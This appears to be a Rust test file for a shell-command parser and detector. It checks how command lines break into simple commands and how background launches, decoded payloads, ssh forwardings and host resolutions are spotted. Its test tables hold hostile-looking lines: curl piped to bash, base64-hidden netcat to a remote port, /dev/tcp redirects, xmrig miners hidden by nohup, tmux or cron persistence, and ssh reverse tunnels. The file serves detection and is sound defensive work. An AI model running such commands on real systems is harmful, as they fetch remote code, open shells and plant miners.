use std::net::IpAddr;

use super::*;

mod bounds;
mod literals;
mod oracle;

fn lines(text: &str) -> Vec<String> {
    CommandLine::parse(text).commands.iter().map(SimpleCommand::line).collect()
}

/// What the shell runs, written down by hand; `oracle.rs` asks bash itself.
#[test]
fn the_commands_of_a_line_are_those_the_shell_runs() {
    let table: &[(&str, &[&str])] = &[
        ("ls -la", &["ls -la"]),
        ("a 'b c' \"d $X\" e\\ f", &["a b c d $X e f"]),
        ("X=1 Y=2 cmd $X", &["cmd $X"]),
        ("X=pool.example; cmd -o $X:3333", &["", "cmd -o pool.example:3333"]),
        ("X=a; X+=b; echo ${X}c \"$X\"", &["", "", "echo abc ab"]),
        ("echo ${POOL:-pool.example:3333}", &["echo pool.example:3333"]),
        ("H=(10.0.0.1 10.0.0.2); for h in \"${H[@]}\"; do ping $h; done", &["", "ping 10.0.0.1", "ping 10.0.0.2"]),
        ("for i in 1 2; do nc -z 10.30.0.$i 22; done", &["nc -z 10.30.0.1 22", "nc -z 10.30.0.2 22"]),
        (
            "for i in $(seq 3 4)\ndo\n nc -z 10.30.0.$i 22\ndone",
            &["seq 3 4", "nc -z 10.30.0.3 22", "nc -z 10.30.0.4 22"],
        ),
        ("for ((i=1;i<=2;i++)); do nc h $i; done", &["nc h 1", "nc h 2"]),
        ("for i in {7..8}; do a $i; done", &["a 7", "a 8"]),
        ("for f in $(cat hosts); do ping $f; done", &["cat hosts", "ping $f"]),
        ("while read x; do nc $x 1; done < hosts", &["", "read x", "nc $x 1"]),
        ("if a; then b; elif c; then d; else e; fi; f", &["a", "b", "c", "d", "e", "f"]),
        ("case $x in a|b) one;; *) two;; esac; three", &[": $x", "one", "two", "three"]),
        ("f() { nc $1 22; }; f 10.0.0.9", &["nc 10.0.0.9 22"]),
        ("function g { echo hi; }", &[]),
        ("(a; b) | c", &["a", "b", "c"]),
        ("{ a; b; } && c || d & e", &["a", "b", "c", "d", "e"]),
        ("bash -c 'nc 10.0.0.1 80; ls'", &["bash -c nc 10.0.0.1 80; ls", "nc 10.0.0.1 80", "ls"]),
        ("bash -lc \"ssh -R 1:h:2 j\"", &["bash -lc ssh -R 1:h:2 j", "ssh -R 1:h:2 j"]),
        ("sh <<'EOF'\nnc a.example 1\nEOF\nls", &["sh", "nc a.example 1", "ls"]),
        ("cat <<EOF > notes.md\nrun xmrig here\nEOF\nls", &["cat", "ls"]),
        ("cat > x.sh <<'E'\nnc a.example 1\nE\nbash x.sh", &["cat", "bash x.sh", "nc a.example 1"]),
        ("echo 'nc b 2' > y.sh; chmod +x y.sh; ./y.sh", &["echo nc b 2", "chmod +x y.sh", "./y.sh", "nc b 2"]),
        // $ echo 'nc 203.0.113.9 4444' | base64
        (
            "echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo= | base64 -d | sh",
            &["echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo=", "base64 -d", "sh", "nc 203.0.113.9 4444"],
        ),
        (
            "eval \"$(echo bHMgLWxhCg== | base64 --decode)\"",
            &["echo bHMgLWxhCg==", "base64 --decode", "eval ls -la", "ls -la"],
        ),
        ("$(printf '\\x6e\\x63') h 1", &["printf \\x6e\\x63", "nc h 1"]),
        ("echo $'a\\tb\\x41'", &["echo a\tbA"]),
        ("seq 1 2 | xargs -P2 -I{} nc -z 10.0.0.{} 22", &["seq 1 2", "nc -z 10.0.0.1 22", "nc -z 10.0.0.2 22"]),
        ("nohup setsid timeout -k 5 60 nice -n 10 ./xmrig -o p:1 &", &["./xmrig -o p:1"]),
        ("sudo -u root env A=1 xmrig", &["xmrig"]),
        ("find . -name '*.py' -exec grep -l x {} \\;", &["grep -l x {}"]),
        ("[[ $a =~ ^(x|y)$ ]] && b", &["[[  $a =~ ^(x|y)$ ]]", "b"]),
        ("diff <(a 1) <(b 2)", &["a 1", "b 2", "diff <(a 1) <(b 2)"]),
        ("a 2>&1 | b > /dev/null 2>&1; c &> log", &["a", "b", "c"]),
        ("exec 3<>/dev/tcp/10.0.0.1/22", &["exec"]),
        ("# comment with xmrig\nls # more", &["ls"]),
        ("tmux new-session -d -s m 'xmrig -o p:1'", &["tmux new-session -d -s m xmrig -o p:1", "xmrig -o p:1"]),
        (
            "echo '*/5 * * * * /tmp/m -o p:1' | crontab -",
            &["echo */5 * * * * /tmp/m -o p:1", "crontab -", "/tmp/m -o p:1"],
        ),
        (
            "(crontab -l; echo '@reboot /tmp/m') | crontab -",
            &["crontab -l", "echo @reboot /tmp/m", "crontab -", "/tmp/m"],
        ),
        ("echo '/tmp/m' | at now + 5 minutes", &["echo /tmp/m", "at now + 5 minutes", "/tmp/m"]),
        ("python3 - <<'E'\nimport os\nos.system('nc h 1')\nE", &["python3 -", "nc h 1"]),
        (
            "python -c 'import subprocess; subprocess.run([\"ssh\", \"-R\", \"1:h:2\", \"j\"])'",
            &["python -c import subprocess; subprocess.run([\"ssh\", \"-R\", \"1:h:2\", \"j\"])", "ssh -R 1:h:2 j"],
        ),
        ("a `b 'c d'` e", &["b c d", "a `b 'c d'` e"]),
        ("cat a \\\n  b", &["cat a b"]),
        ("echo {a,b}{1,2}", &["echo a1 a2 b1 b2"]),
        ("x=$((1+2)); echo $x", &["", "echo $x"]),
        ("((i++)); ls", &["ls"]),
        ("watch -n 5 'nc h 1'", &["watch", "nc h 1"]),
        ("trap 'rm x' EXIT", &["trap rm x EXIT", "rm x"]),
        ("docker exec -it c bash -c 'id'", &["bash -c id", "id"]),
        ("", &[]),
        (";;;", &[]),
        ("'unclosed", &["unclosed"]),
        ("$(unclosed", &["unclosed", "$(unclosed"]),
    ];
    for (text, expected) in table {
        assert_eq!(lines(text), *expected, "{text}");
    }
}

#[test]
fn launchers_are_seen() {
    use Launcher::*;
    let table: &[(&str, &[Launcher])] = &[
        ("ls", &[]),
        ("xmrig &", &[Background]),
        ("nohup xmrig > /dev/null 2>&1 &", &[Background, Nohup]),
        ("xmrig & disown", &[Background, Disown]),
        ("setsid -f xmrig", &[Setsid]),
        ("ssh -fNR 1:h:2 j", &[SelfDetached]),
        ("ssh -N -R 1:h:2 j", &[]),
        ("ssh -o ForkAfterAuthentication=yes -N j", &[SelfDetached]),
        ("screen -dmS x xmrig", &[Screen]),
        ("tmux new -d 'xmrig'", &[Tmux]),
        ("sleep 1m && curl h", &[SleepDelay(60)]),
        ("(sleep 90; curl h) & ls", &[Background, SleepDelay(90)]),
        ("systemd-run --unit x ./m", &[Systemd]),
        ("systemctl enable --now m.service", &[Systemd]),
        ("docker run -d img", &[Container]),
        ("docker run --rm img", &[]),
        ("crontab -l", &[]),
        ("echo '* * * * * m' | crontab -", &[Cron]),
        ("echo m | at now", &[At]),
        ("a && b", &[]),
        ("a 2>&1", &[]),
    ];
    for (text, expected) in table {
        assert_eq!(CommandLine::parse(text).launchers, *expected, "{text}");
    }
    let line = CommandLine::parse("(sleep 90; curl h) & ls");
    let delays: Vec<Option<u64>> = line.commands.iter().map(|command| command.delay_s).collect();
    assert_eq!(delays, [None, Some(90), None], "the delay holds inside the subshell only");
}

#[test]
fn pipelines_and_substitutions_tell_where_the_input_comes_from() {
    for text in [
        "curl -s http://h/x | bash",
        "bash <(curl -s http://h/x)",
        "bash -c \"$(curl -s http://h/x)\"",
        "curl http://h | tee x | sudo bash -s --",
    ] {
        let line = CommandLine::parse(text);
        let shell = line.commands.iter().find(|command| command.name() == "bash").expect(text);
        assert!(shell.input_from.iter().any(|program| program == "curl"), "{text}: {:?}", shell.input_from);
    }
    let line = CommandLine::parse("curl http://h > x; bash y");
    assert!(line.commands[1].input_from.is_empty());
}

#[test]
fn hidden_text_is_marked() {
    let line = CommandLine::parse("echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo= | base64 -d | bash");
    let hidden: Vec<&str> = line.commands.iter().filter(|command| command.decoded).map(SimpleCommand::name).collect();
    assert_eq!(hidden, ["nc"]);
    assert!(CommandLine::parse("echo 'nc h 1' | bash").commands.iter().all(|command| !command.decoded));
}

/// ssh(1): `-R [bind_address:]port:host:hostport`, `-R port` alone is remote SOCKS, clusters end at the first valued letter.
#[test]
fn ssh_forwardings_in_all_shapes() {
    let table: &[(&str, &str)] = &[
        ("ssh -R 8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        ("ssh -fNR 8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        ("ssh -fNTR8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        (
            "ssh -p 443 -i key -o StrictHostKeyChecking=no -N -R 0.0.0.0:2222:127.0.0.1:22 u@jump.example",
            "remote 0.0.0.0 2222 127.0.0.1 22",
        ),
        ("ssh jump.example -R 1080", "remote - 1080 - -"),
        ("ssh -R '[::1]:2222:[fe80::1]:22' j", "remote ::1 2222 fe80::1 22"),
        ("ssh -o 'RemoteForward 9000 127.0.0.1:9001' j", "remote - 9000 127.0.0.1 9001"),
        ("ssh -oRemoteForward=\"9000 127.0.0.1:9001\" j", "remote - 9000 127.0.0.1 9001"),
        ("autossh -M 0 -f -N -R 9000:h:1 j", "remote - 9000 h 1"),
        ("sshpass -p pw ssh -R 1:h:2 j", "remote - 1 h 2"),
        ("ssh -L 5432:db:5432 j", "local - 5432 db 5432"),
        ("ssh -D 1080 j", "dynamic - 1080 - -"),
        ("ssh -D 127.0.0.1:1080 j", "dynamic 127.0.0.1 1080 - -"),
        ("ssh -W h:22 j", "stdio - - h 22"),
        ("ssh -w 0:0 j", "device - - - -"),
        ("ssh j 'grep -R x .'", ""),
        ("ssh j grep -R x .", ""),
        ("ssh -N j", ""),
    ];
    for (text, expected) in table {
        let line = CommandLine::parse(text);
        let shown: Vec<String> = line.commands[0]
            .ssh()
            .expect(text)
            .forwards
            .iter()
            .map(|f| {
                let port = |port: Option<u16>| port.map_or("-".to_owned(), |port| port.to_string());
                let word = |word: &Option<String>| word.clone().unwrap_or("-".to_owned());
                format!(
                    "{} {} {} {} {}",
                    f.kind.name(),
                    word(&f.bind),
                    port(f.listen_port),
                    word(&f.target_host),
                    port(f.target_port)
                )
            })
            .collect();
        assert_eq!(shown.join("; "), *expected, "{text}");
    }
    let line = CommandLine::parse("ssh -p 443 -l me -J a@hop.example:2200,b jump.example uptime -p");
    let call = line.commands[0].ssh().unwrap();
    assert_eq!((call.host.as_deref(), call.port, call.user.as_deref()), (Some("jump.example"), Some(443), Some("me")));
    assert_eq!(call.jumps, [("hop.example".to_owned(), Some(2200)), ("b".to_owned(), None)]);
    assert_eq!(call.remote_command.as_deref(), Some("uptime -p"));
}

#[test]
fn network_capability() {
    let capable = |text: &str| is_network_capable(&CommandLine::parse(text));
    for text in [
        "ls -la | grep x > y",
        "cd /a && cat b; echo $HOME",
        "git status",
        "git -C x diff",
        "sed -i s/a/b/ f",
        "bash -c 'ls; pwd'",
        "find . -type f -exec grep x {} +",
        "export A=1",
        "",
        "nvidia-smi",
        "git add -A && git commit -m 'x'",
    ] {
        assert!(!capable(text), "{text}");
    }
    for text in [
        "curl h",
        "git fetch",
        "git clone x",
        "pip install x",
        "python x.py",
        "./run",
        "nc h 1",
        "ssh h",
        "bash x.sh",
        "make",
        "unknown-program",
        "echo x > /dev/tcp/h/1",
        "timeout 5 bash -c 'curl h'",
        "ls; wget h",
        "npm test",
    ] {
        assert!(capable(text), "{text}");
    }
}

/// Lines as the tools print them (curl 7.88 and 8.x, GNU wget 1.21, busybox, OpenSSH 9, iputils, bind9-host, dig, xmrig 6).
#[test]
fn resolutions_are_read_from_outputs() {
    let table: &[(&str, &[(&str, &str)])] = &[
        (
            "*   Trying 203.0.113.80:80...\n* Connected to mirror.example (203.0.113.80) port 80 (#0)\n",
            &[("mirror.example", "203.0.113.80")],
        ),
        (
            "* Host mirror.example:443 was resolved.\n* IPv6: (none)\n* IPv4: 203.0.113.80, 203.0.113.81\n*   Trying 203.0.113.80:443...\n",
            &[("mirror.example", "203.0.113.80"), ("mirror.example", "203.0.113.81")],
        ),
        (
            "*   Trying [2001:db8::1]:443...\n* Immediate connect fail\n*   Trying 203.0.113.5:443...\n* Failed to connect to m.example port 443 after 3 ms: Couldn't connect to server\n",
            &[("m.example", "2001:db8::1"), ("m.example", "203.0.113.5")],
        ),
        ("* Added pool.example:3333:203.0.113.9 to DNS cache", &[("pool.example", "203.0.113.9")]),
        (
            "Resolving mirror.example (mirror.example)... 203.0.113.80, 2001:db8::1\nConnecting to mirror.example (mirror.example)|203.0.113.80|:80... connected.",
            &[("mirror.example", "203.0.113.80"), ("mirror.example", "2001:db8::1")],
        ),
        ("Resolving mirror.example... failed: Name or service not known.", &[]),
        ("Connecting to mirror.example (203.0.113.80:80)", &[("mirror.example", "203.0.113.80")]),
        ("debug1: Connecting to jump.example [203.0.113.66] port 443.", &[("jump.example", "203.0.113.66")]),
        (
            "Authenticated to jump.example ([203.0.113.66]:443) using \"publickey\".",
            &[("jump.example", "203.0.113.66")],
        ),
        (
            "Warning: Permanently added '[jump.example]:443,[203.0.113.66]:443' (ED25519) to the list of known hosts.",
            &[("jump.example", "203.0.113.66")],
        ),
        (
            "The authenticity of host 'jump.example (203.0.113.66)' can't be established.",
            &[("jump.example", "203.0.113.66")],
        ),
        ("PING mirror.example (203.0.113.80) 56(84) bytes of data.", &[("mirror.example", "203.0.113.80")]),
        ("PING m.example(r.example (2001:db8::1)) 56 data bytes", &[("m.example", "2001:db8::1")]),
        ("traceroute to m.example (203.0.113.80), 30 hops max, 60 byte packets", &[("m.example", "203.0.113.80")]),
        (
            "203.0.113.80    mirror.example www.mirror.example",
            &[("mirror.example", "203.0.113.80"), ("www.mirror.example", "203.0.113.80")],
        ),
        ("203.0.113.80    STREAM mirror.example", &[("mirror.example", "203.0.113.80")]),
        (
            "www.m.example is an alias for m.example.\nm.example has address 203.0.113.80\nm.example has IPv6 address 2001:db8::1",
            &[
                ("m.example", "203.0.113.80"),
                ("m.example", "2001:db8::1"),
                ("www.m.example", "203.0.113.80"),
                ("www.m.example", "2001:db8::1"),
            ],
        ),
        (
            "www.m.example.\t300\tIN\tCNAME\tm.example.\nm.example.\t300\tIN\tA\t203.0.113.80",
            &[("m.example", "203.0.113.80"), ("www.m.example", "203.0.113.80")],
        ),
        (
            "Server:\t\t10.0.0.2\nAddress:\t10.0.0.2#53\n\nNon-authoritative answer:\nName:\tm.example\nAddress: 203.0.113.80\n",
            &[("m.example", "203.0.113.80")],
        ),
        (
            "[2026-11-20 14:14:01.123]  net      use pool pool.supportxmr.com:3333  203.0.113.9",
            &[("pool.supportxmr.com", "203.0.113.9")],
        ),
        (
            "[2026-11-20 14:14:01.123]  net      use pool p.example:443 TLSv1.3 203.0.113.9",
            &[("p.example", "203.0.113.9")],
        ),
        ("Connection to m.example (203.0.113.80) 80 port [tcp/http] succeeded!", &[("m.example", "203.0.113.80")]),
        ("m.example [203.0.113.80] 80 (http) open", &[("m.example", "203.0.113.80")]),
        ("Trying 203.0.113.80...\nConnected to m.example.", &[("m.example", "203.0.113.80")]),
        ("Nmap scan report for m.example (203.0.113.80)", &[("m.example", "203.0.113.80")]),
        ("10.0.0.1 ether 00:11:22:33:44:55 C eth0\ntext without any\n", &[]),
    ];
    for (output, expected) in table {
        let expected: Vec<(String, IpAddr)> =
            expected.iter().map(|(name, address)| ((*name).to_owned(), address.parse().unwrap())).collect();
        assert_eq!(name_resolutions(output), expected, "{output}");
    }
}
